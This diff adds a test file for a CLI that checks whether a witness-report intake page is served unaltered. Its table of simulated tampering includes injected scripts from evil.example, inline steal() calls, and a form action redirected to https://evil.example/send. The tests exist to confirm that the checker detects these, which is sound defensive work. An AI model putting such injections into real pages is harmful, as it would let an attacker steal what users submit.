@@ -1,0 +1,192 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { madeForce } from '../../../../services/intake/src/force/force.test-kit.ts'
+import {
+  type Ground,
+  type OpenedIncident,
+  prepareGround,
+  serve,
+} from '../../../../services/intake/src/intake.test-kit.ts'
+import { type Copy, copyOf } from '../addresses/copied-door.test-kit.ts'
+import { runCli } from '../cli/run-cli.ts'
+import { allCommands } from './all-commands.ts'
+
+let ground: Ground
+let real: Awaited<ReturnType<typeof serve>>
+let drill: OpenedIncident
+let copy: Copy
+let data: string
+
+beforeAll(async () => {
+  ground = await prepareGround()
+  drill = await ground.openIncident({ title: 'Fire at the harbour' })
+  await ground.openIncident({ slug: 'ended', state: 'closed' })
+  real = await serve(await ground.deps({ force: madeForce() }))
+  copy = await copyOf(real.url)
+  data = await mkdtemp(join(tmpdir(), 'firsthand-addresses-'))
+})
+afterAll(async () => {
+  await copy.close()
+  await real.close()
+  await ground.release()
+  await rm(data, { recursive: true, force: true })
+})
+
+async function run(env: Readonly<Record<string, string>>, ...argv: string[]) {
+  const out: string[] = []
+  const err: string[] = []
+  const code = await runCli({
+    ...{ argv: ['addresses', ...argv, '--as', 'tests'], root: data, commands: allCommands },
+    env: { FIRSTHAND_DATA: data, ...env },
+    ...{ signal: new AbortController().signal, out: (text) => out.push(text), err: (text) => err.push(text) },
+  })
+  return { code, out: out.join('\n'), err: err.join('\n') }
+}
+
+const PUBLIC = 'https://witness.example.org'
+const ONION = 'http://abcdefghij234567.onion'
+const withDatabase = () => ({ DATABASE_URL: ground.db.urlOf('ops') })
+
+test('what the force’s own site can show: addresses of what is open, and digests of what the door really serves', async () => {
+  const env = { ...withDatabase(), FIRSTHAND_PUBLIC_URL: `${PUBLIC}/`, INTAKE_ONION: ONION }
+  const { code, out } = await run(env, '--json')
+  expect(code).toBe(0)
+  const told: unknown = JSON.parse(out)
+  const slug = drill.slug
+  expect(told).toMatchObject({ address: PUBLIC, onion: ONION })
+  expect(told).toMatchObject({
+    incidents: [{ slug, exercise: true, address: `${PUBLIC}/${slug}`, onion: `${ONION}/${slug}` }],
+  })
+  const { assets } = await ground.deps()
+  expect(told).toMatchObject({ style: { integrity: `sha256-${assets.styleHash}` } })
+  const text = (await run(env)).out
+  expect(text).toContain(`  ${PUBLIC}/${slug}`)
+  expect(text).toContain('EXERCISE, do not publish: Fire at the harbour')
+  expect(text).not.toContain('ended')
+  for (const path of [assets.scriptPath, ...Object.values(assets.lazy), ...Object.values(assets.more)])
+    expect(text).toContain(path)
+})
+
+test('the stack of npm start keeps its public address for a shell that does not know it', async () => {
+  await writeFile(join(data, 'run.json'), JSON.stringify({ publicUrl: PUBLIC, onion: ONION }))
+  const { out } = await run(withDatabase(), '--json')
+  await rm(join(data, 'run.json'))
+  expect(JSON.parse(out)).toMatchObject({ address: PUBLIC, onion: ONION, isPublic: true })
+})
+
+test('without a public address, the one of this machine is shown as what it is', async () => {
+  const { out } = await run({ ...withDatabase(), FIRSTHAND_INTAKE_URL: real.url })
+  expect(out).toContain(`  ${real.url}\n  This is the address of this machine. Set FIRSTHAND_PUBLIC_URL.`)
+  expect(await run({ ...withDatabase(), FIRSTHAND_PUBLIC_URL: 'witness.example.org' })).toMatchObject({
+    ...{ code: 1, err: expect.stringContaining('bad-setting') },
+  })
+})
+
+test('every page of the real door is the same from outside, without a stack or a setting', async () => {
+  for (const path of ['/', `/${drill.slug}`, `/${drill.slug}/now?lang=ar`, '/about?lang=fi', '/receipt', '/identify']) {
+    const { code, out, err } = await run({}, '--check', real.url + path)
+    expect([path, code, err]).toEqual([path, 0, ''])
+    expect(out).not.toMatch(/\b(differs|missing)\b/)
+  }
+  const { out } = await run({}, '--check', `${real.url}/about`, '--json')
+  expect(JSON.parse(out)).toMatchObject({ ok: true, linksTo: ['police.example', 'www.wikipedia.org'] })
+})
+
+/** What somebody in between changes, and the line that tells it. */
+const CHANGES: readonly (readonly [what: string, change: Parameters<Copy['change']>[0], line: RegExp])[] = [
+  [
+    'adds a script',
+    { page: add('<script src="https://evil.example/a.js"></script>') },
+    /scripts in the page\s+differs\s+a script from https:\/\/evil/,
+  ],
+  [
+    'adds an inline script',
+    { page: add('<script>steal()</script>') },
+    /scripts in the page\s+differs.*7 letters inside/,
+  ],
+  ['adds a style', { page: add('<style>p{display:none}</style>') }, /style in the page\s+differs\s+2 instead of 1/],
+  [
+    'changes the style',
+    { page: (text) => text.replace('--ink:#16202b', '--ink:#16202c') },
+    /style in the page\s+differs\s+another style/,
+  ],
+  ['takes the style away', { page: (text) => text.replace(/<style>.*<\/style>/s, '') }, /style in the page\s+missing/],
+  [
+    'adds a handler',
+    { page: (text) => text.replace('<main>', '<main onclick="steal()">') },
+    /elements\s+differs\s+onclick in <main>/,
+  ],
+  ['adds a frame', { page: add('<iframe src="/x"></iframe>') }, /elements\s+differs\s+<iframe>/],
+  [
+    'hides a script in a comment',
+    { page: add('<!--><script>steal()</script>-->') },
+    /elements\s+differs\s+the page is written in another form/,
+  ],
+  [
+    'sends the form elsewhere',
+    { page: (text) => text.replace(/action="[^"]*"/, 'action="https://evil.example/send"') },
+    /forms\s+differs\s+action of <form> leads to evil.example/,
+  ],
+  [
+    'lets our own script load another one of the same host',
+    { page: (text) => text.replace(/\/assets\/more-en\.[0-9a-f]+\.js/, '/harbour/steal') },
+    /settings of the script\s+differs\s+more in data-door is \/harbour\/steal/,
+  ],
+  [
+    'names another script',
+    { page: (text) => text.replace(/<script src="[^"]*"/, '<script src="/assets/page.0123456789abcdef.js"') },
+    /scripts in the page\s+differs\s+a script from \/assets\/page.0123/,
+  ],
+  ['names no script', { page: (text) => text.replace(/<script.*<\/script>/, '') }, /scripts in the page\s+missing/],
+  ['changes a script', { script: (text) => `${text}steal()` }, /\/assets\/page\.[0-9a-f]+\.js\s+differs\s+SHA-256/],
+  [
+    'takes a script that is loaded later away',
+    { lost: /\/assets\/code\./ },
+    /\/assets\/code\.[0-9a-f]+\.js\s+missing\s+status 404/,
+  ],
+  ['takes the policy away', { headers: { 'content-security-policy': undefined } }, /Content-Security-Policy\s+missing/],
+  [
+    'loosens the policy',
+    { headers: { 'content-security-policy': "script-src 'self' evil.example" } },
+    /Content-Security-Policy\s+differs/,
+  ],
+  ['sets a cookie', { headers: { 'set-cookie': 'a=b' } }, /other headers\s+differs\s+set-cookie is too much/],
+  [
+    'leads to another host',
+    { headers: { location: 'https://evil.example/' }, status: 302 },
+    /page\s+differs\s+it leads to another address/,
+  ],
+  [
+    'serves the page as something else',
+    { headers: { 'content-type': 'text/html; charset=utf-7' } },
+    /page\s+differs\s+content type/,
+  ],
+  ['sends without an end', { page: (text) => text + ' '.repeat(2 ** 21) }, /page\s+differs\s+the answer is larger/],
+]
+
+function add(html: string) {
+  return (text: string): string => text.replace('</main>', `${html}</main>`)
+}
+
+test.each(CHANGES)('a copy that %s is found', async (_what, change, line) => {
+  copy.change(change)
+  const { code, err } = await run({}, '--check', `${copy.url}/${drill.slug}`)
+  expect(code).toBe(1)
+  expect(err).toContain('THE PAGE IS NOT THIS VERSION')
+  expect(err).toContain('(page-differs)')
+  expect(err).toMatch(line)
+})
+
+test('the copy is the same as long as it changes nothing, so that what was found is what was changed', async () => {
+  copy.change({})
+  expect(await run({}, '--check', `${copy.url}/${drill.slug}`)).toMatchObject({ code: 0, err: '' })
+})
+
+test('an address where nothing answers is missing, and one that is none is refused', async () => {
+  const { code, out, err } = await run({}, '--check', 'http://127.0.0.1:9/', '--json')
+  expect(err).toContain('unreachable')
+  expect([code, JSON.parse(out)]).toMatchObject([1, { ok: false, findings: [{ what: 'page', state: 'missing' }] }])
+  expect(await run({}, '--check', 'witness.example.org')).toMatchObject({ code: 2 })
+})
